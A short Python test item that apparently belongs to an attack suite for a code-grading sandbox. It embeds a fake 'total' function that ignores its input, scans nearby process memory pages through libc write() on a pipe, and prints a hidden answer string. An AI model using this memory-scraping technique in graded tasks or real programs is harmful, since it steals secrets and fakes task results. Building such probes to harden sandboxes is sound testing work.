from attack import Attack

_TEXT = r"""
import ctypes, os, re
def total(values):
    libc = ctypes.CDLL(None)
    read, write = os.pipe()
    for near in (id(object()), id("x" * 9000), id(values)):
        for page in range((near >> 12) - 4000, (near >> 12) + 4000):
            if libc.write(write, ctypes.c_void_p(page << 12), 4096) == 4096:
                print(*re.findall(rb"the-hidden-figure-is-\d+", os.read(read, 4096)))
    os.close(read), os.close(write)
    return 0
"""
ATTACK = Attack("the hidden figure in the memory of the process", total=_TEXT, points={"pick": 2.0})
